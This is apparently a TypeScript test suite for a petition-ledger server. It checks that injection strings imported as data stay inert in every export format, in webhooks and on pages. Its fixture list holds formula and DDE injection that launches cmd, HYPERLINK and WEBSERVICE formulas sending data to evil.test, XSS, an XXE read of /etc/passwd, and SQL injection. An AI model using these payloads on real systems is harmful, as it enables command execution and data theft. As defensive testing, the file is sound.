import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { init } from 'echarts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpoints, type AlertList, type AlertReport, type DraftView, type Endpoint, type ImportReply, type Job, type ReportDraft, type SavedQuery, type SourceList, type SqlReply } from '../../server/api.ts';
import { briefingFormats } from '../../server/briefing/formats.ts';
import { drawChart } from '../../server/briefing/draw-chart.ts';
import { queryChart } from '../../web/charts/query-chart.ts';
import { cellsForClipboard } from '../../web/query/clipboard.ts';
import { light } from '../../web/tokens.ts';
import { receiver } from './alerts/receivers.ts';
import { start, type Client, type Reply, type Running } from './client.ts';
import { deadCells, deadCsv, deadOffice, deadPdf, deadXml } from './dead-files.ts';
import { newDataDir } from './sample-warehouse.ts';

/** What texts begin with that want to be more than text. */
const nasty = [
  "=cmd|' /C calc'!A0 ", '=HYPERLINK("http://evil.test/?"&A1,"点我")', '+1+1', '-2+3', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u200e=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '%0A=1+1', "'=1+1", '";=1+1;"', '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://evil.test")', '=IMPORTXML("http://evil.test","//a")',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '</t></si><f>1+1</f>', '</w:t><w:instrText>DDEAUTO c:\\\\x</w:instrText>', ']]><!--', '<![CDATA[x]]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '&#x3c;script&#x3e;', '&amp;lt;b&gt;', '&#0;&#xD800;',
  '\u0000\u0001\u0008\u000b\u001f\u007f\u0085', '\u202e反过来的\u202c', '\ufeff\ufffe\uffff', '\ud800半个字', '半个字\udc00', '_x000D_x0041_=1', '{{unit}} {{month:sql}}', '${7*7} #{7*7} <%= 7*7 %> {%x%}', '{b|字}{a}', '[点我](javascript:alert(1)) ![x](http://evil.test/x.png)', 'javascript:alert(1)', "'; DROP TABLE document; --", '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}', '\\u003cscript\\u003e', '!!python/object', '\u2028\u2029', 'e\u0301'.repeat(40), '𠮷👷🏿‍♂️',
];
const day = (i: number) => `2026-10-${String(1 + (i % 28)).padStart(2, '0')}`;
const says = ['瓦斯超限还在生产，当班的人都害怕，请马上停产。', '我们队上个月的绩效工资到现在还没有发，三个月了。', '井下顶板有裂缝没有人处理，随时会冒顶伤人。'];
const ledger = nasty.flatMap((words, n) => says.slice(0, 2).map((said, i) => ({
  登记编号: `${words.slice(0, 12)}${n}-${i}`, 信访日期: day(n), 单位: ['一矿', '=1+1矿', '<b>二矿</b>'][n % 3], 标题: `${words}工资`, 内容: `${words}${n % 4 === 3 ? says[2]! : said}${words}第${n}件`, 信访目的: '申诉求决', 信访形式: '来信', 办理结果: `${words}已办`, 答复意见: `${words}已答`,
})));
const unread = nasty.map((words, n) => ({ ...ledger[0], 登记编号: `r${n}`, 信访日期: words, 内容: `${words}没有日期的信` }));
const file = [...ledger, ...unread].map((row) => JSON.stringify(row)).join('\n');

const long = 120_000;

describe('texts that want to be more than text', () => {
  const dir = newDataDir();
  let s: Running, admin: Client, draft: DraftView, hook: Awaited<ReturnType<typeof receiver>>;
  const seen = new Set<string>();
  /** Takes a file from an endpoint that gives files. */
  async function take(endpoint: keyof typeof endpoints, path: string, body?: unknown, from: Client = admin, headers: Record<string, string> = {}): Promise<Reply> {
    seen.add(endpoint);
    const reply = await from.send(endpoint.split(' ')[0]!, path, body, headers);
    expect([path, reply.status, reply.status === 200 ? '' : reply.text]).toEqual([path, 200, '']);
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
    expect(reply.headers.get('content-type')).not.toMatch(/html|svg|xml;|javascript/);
    return reply;
  }
  const rows = async (sql: string) => (await admin.post('/api/sql', { sql })).json<SqlReply>();

  beforeAll(async () => {
    hook = await receiver();
    writeFileSync(dir.settings, JSON.stringify({ outbound: { webhook_url: hook.url } }));
    s = await start(dir, 0, { secrets: { webhook: 'geheim', smtp: null } });
    admin = await s.signedIn('admin', 'admin');
    const form = new FormData();
    form.append('files', new Blob([file]), '=1+1<b>台账.jsonl');
    const sent = await admin.send('POST', '/api/imports', form);
    expect([sent.status, sent.status === 200 ? '' : sent.text]).toEqual([200, '']);
    expect(sent.json<ImportReply>().sheets[0]).toMatchObject({ accepted: ledger.length, rejected: unread.length });
    const { job_id } = (await admin.post(`/api/imports/${sent.json<ImportReply>().import_id}/run`)).json<{ job_id: string }>();
    await take('GET /api/jobs/:id/events', `/api/jobs/${job_id}/events`);
    expect((await admin.get(`/api/jobs/${job_id}`)).json<Job>()).toMatchObject({ state: 'done' });
  }, 300_000);
  afterAll(async () => { await s.close(); await hook.close(); });

  it('come through the import as the texts they are', async () => {
    const { rows: [first] } = await rows("SELECT count(*), count(*) FILTER (text LIKE '=cmd%'), count(*) FILTER (text LIKE '%<script>%'), count(*) FILTER (text LIKE '%=HYPERLINK(%'), count(*) FILTER (unit_id LIKE '%=1+1%' OR unit_id LIKE '%<b>%') FROM document");
    expect(first?.[0]).toBe(ledger.length);
    for (const n of first?.slice(1) ?? []) expect(n).toBeGreaterThan(0);
  });

  const everything = 'SELECT d.*, p.registration_no, p.outcome, p.reply, u.name, [text] AS list, {a: text} AS "=1+1", MAP {text: title} AS "<b>" FROM document d JOIN petition p USING (document_id) JOIN unit u USING (unit_id) ORDER BY document_id';
  const opened: Record<string, (bytes: Buffer) => Promise<void>> = {
    csv: async (bytes) => { expect(deadCsv(bytes).length).toBeGreaterThan(ledger.length); },
    xlsx: async (bytes) => { expect((await deadOffice(bytes)).join('\n')).toContain('DROP TABLE document'); },
    json: async (bytes) => { expect(JSON.parse(bytes.toString('utf8'))).toHaveLength(ledger.length); },
    parquet: async (bytes) => {
      const path = join(dir.root, 'x.parquet');
      writeFileSync(path, bytes);
      const connection = await (await DuckDBInstance.create(':memory:')).connect();
      expect((await connection.runAndReadAll(`SELECT document_id, text FROM '${path}' ORDER BY document_id`)).getRows()).toEqual((await rows('SELECT document_id, text FROM document ORDER BY document_id')).rows);
      connection.closeSync();
    },
  };
  it.each(Object.keys(opened))('are dead in a result as %s: of the page, of a saved query, of a program', async (format) => {
    await opened[format]!((await take('POST /api/sql/file', '/api/sql/file', { sql: everything, format })).bytes);
    const { query } = (await admin.post('/api/queries', { title: '=1+1<b>', sql: everything, refresh: format })).json<{ query: SavedQuery }>();
    await s.app.house.refresh.start();
    await opened[format]!((await take('GET /api/queries/:id/exports/:version', `/api/queries/${query.query_id}/exports/1`)).bytes);
    await opened[format]!((await take('POST /api/queries/:id/file', `/api/queries/${query.query_id}/file`, { format })).bytes);
    const { token } = (await admin.post('/api/tokens', { name: '=1+1' })).json<{ token: string }>();
    const shown = { authorization: `Bearer ${token}` };
    await opened[format]!((await take('POST /api/v1/sql', '/api/v1/sql', { sql: everything, format }, s.client(), shown)).bytes);
    await opened[format]!((await take('GET /api/v1/query/:id', `/api/v1/query/${query.query_id}?format=${format}`, undefined, s.client(), shown)).bytes);
  }, long);

  it('are dead in what is copied: no cell a formula, no tag but the table’s', async () => {
    const { rows: found } = await rows(everything);
    const { text, html } = cellsForClipboard(found);
    expect(deadCells(text, '\t').length).toBeGreaterThan(ledger.length);
    expect(new Set([...html.matchAll(/<\/?([a-z]+)/gi)].map(([, tag]) => tag))).toEqual(new Set(['meta', 'table', 'tr', 'td', 'br']));
  });
  it('are dead in a figure: its picture, its drawing, its table as xlsx', async () => {
    const table = await rows('SELECT title, unit_id, count(*) AS "=1+1<b>" FROM document GROUP BY ALL ORDER BY 3 DESC, 1');
    for (const kind of ['bar', 'line', 'heat'] as const) {
      const { option } = queryChart(table, { kind, x: 'title', y: ['=1+1<b>'], by: 'unit_id' }, light);
      const chart = init(null, null, { renderer: 'svg', ssr: true, width: 640, height: 400 });
      chart.setOption({ ...option, animation: false });
      expect(deadXml(`${kind}.svg`, chart.renderToSVGString()).join('')).toMatch(/工资|矿/);
      chart.dispose();
      expect(drawChart(option, 400).subarray(1, 4).toString()).toBe('PNG');
    }
    const { bytes } = await take('POST /api/table.xlsx', '/api/table.xlsx', { title: '=1+1', subtitle: '<b>', columns: ['=1+1', '标题'], rows: table.rows.map(([title, , n]) => [n, title]) });
    expect((await deadOffice(bytes)).join('\n')).toContain('=HYPERLINK(');
  });
  it('can be written into a draft of the briefing', async () => {
    draft = (await admin.post('/api/briefing/drafts', { period: '2026-10' })).json<{ draft: DraftView }>().draft;
    const text = structuredClone(draft.text);
    text.sections.find((x) => x.id === 'advice')!.blocks = [{ type: 'paragraph', id: 'w1', sentences: [{ id: 'w2', parts: [{ type: 'text', text: `${nasty.slice(20, 36).join('').replaceAll('"', '')}请各单位落实。` }] }] }];
    const saved = await admin.post(`/api/briefing/drafts/${draft.draft_id}/text`, { revision: draft.revision, text });
    expect([saved.status, saved.status === 200 ? '' : saved.text]).toEqual([200, '']);
  });
  it.each(briefingFormats)('are dead in a briefing as %s, and in its draft', async (format) => {
    const read = async (bytes: Buffer) => (format === 'pdf' ? deadPdf(bytes) : (await deadOffice(bytes)).join('\n'));
    const endpoint = `GET /api/briefing.${format}` as 'GET /api/briefing.docx';
    const texts = await read((await take(endpoint, `/api/briefing.${format}?period=2026-10&notes=1`)).bytes);
    if (typeof texts === 'string') expect(texts).toContain('=1+1矿');
    await read((await take('GET /api/briefing/drafts/:id/file', `/api/briefing/drafts/${draft.draft_id}/file?format=${format}`)).bytes);
  }, long);
  it('are dead in a report of an alert that quotes one, and name nothing of it to the outside', async () => {
    const { alerts } = (await admin.get('/api/alerts')).json<AlertList>();
    expect(alerts.length).toBeGreaterThan(0);
    for (const { alert_id } of alerts.slice(0, 3)) {
      await admin.post(`/api/alerts/${alert_id}/actions`, { action: 'start' });
      const draft = (await admin.get(`/api/alerts/${alert_id}/report-draft?kind=first`)).json<ReportDraft>();
      const text = nasty.join('\n');
      const sent = await admin.post(`/api/alerts/${alert_id}/reports`, { kind: 'first', fields: { ...draft.fields, title: nasty.slice(20, 24).join(''), situation: text, measures: text, progress: text, next: text }, submit: true });
      expect([sent.status, sent.status === 200 ? '' : sent.text]).toEqual([200, '']);
      const { report } = sent.json<{ report: AlertReport }>();
      const { bytes } = await take('GET /api/alerts/:id/reports/:n.docx', `/api/alerts/${alert_id}/reports/${report.report_no}.docx`);
      expect((await deadOffice(bytes)).join('\n')).toContain('<script>alert(1)</script>');
    }
    await s.app.house.outbound.deliver(() => new Date());
    for (const { body } of hook.taken) expect(JSON.stringify(Object.entries(JSON.parse(body) as object).filter(([key]) => key !== 'unit' && key !== 'owner_unit'))).not.toMatch(/evil|script|cmd/);
  }, long);
  it('are dead in the file of rejected rows, in the audit log, and an attachment is given back as a download', async () => {
    const { sources } = (await admin.get('/api/sources')).json<SourceList>();
    const { bytes } = await take('GET /api/rejects.xlsx', `/api/rejects.xlsx?source_id=${sources[0]!.source_id}`);
    expect((await deadOffice(bytes)).join('\n')).toContain('没有日期的信');
    expect((await admin.get('/api/rejects')).text).not.toMatch(/evil|cmd|script/);
    for (const words of nasty.slice(0, 12)) await admin.get(`/api/search?q=${encodeURIComponent(`${words.replaceAll('"', '')} 工资`)}`);
    deadCsv((await take('GET /api/audit.csv', '/api/audit.csv')).bytes);
    const [alert] = (await admin.get('/api/alerts')).json<AlertList>().alerts;
    const form = new FormData();
    form.append('files', new Blob(['%PDF-1.7 <script>alert(1)</script>']), '=1+1<script>.pdf');
    const { attachments: [made] } = (await admin.send('POST', `/api/alerts/${alert!.alert_id}/attachments`, form)).json<{ attachments: { attachment_id: string }[] }>();
    const reply = await take('GET /api/alerts/:id/attachments/:attachment_id', `/api/alerts/${alert!.alert_id}/attachments/${made!.attachment_id}`);
    expect(reply.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(reply.headers.get('content-disposition')).not.toMatch(/[<>\r\n]/);
  }, long);
  it('are text in every answer that a page draws, and no answer is a page', async () => {
    for (const path of ['/api/search?q=工资', '/api/hotspots', '/api/alerts', '/api/matters', '/api/meta', '/api/briefing?period=2026-10', '/api/sources', '/api/jobs']) {
      const reply = await admin.get(path);
      expect([path, reply.status, reply.headers.get('content-type')]).toEqual([path, 200, 'application/json; charset=utf-8']);
      JSON.parse(reply.text);
    }
    const page = await admin.get('/search?q=<script>alert(1)</script>');
    expect(page.text).not.toMatch(/<script>alert/);
    expect(page.headers.get('content-security-policy')).toContain("script-src 'self'");
  });
  it('have been looked for in every endpoint that gives a file', () => {
    const files = Object.entries(endpoints as Record<string, Endpoint>).filter(([, { reply }]) => reply === undefined).map(([name]) => name);
    expect([...seen].sort()).toEqual(files.sort());
  });
});
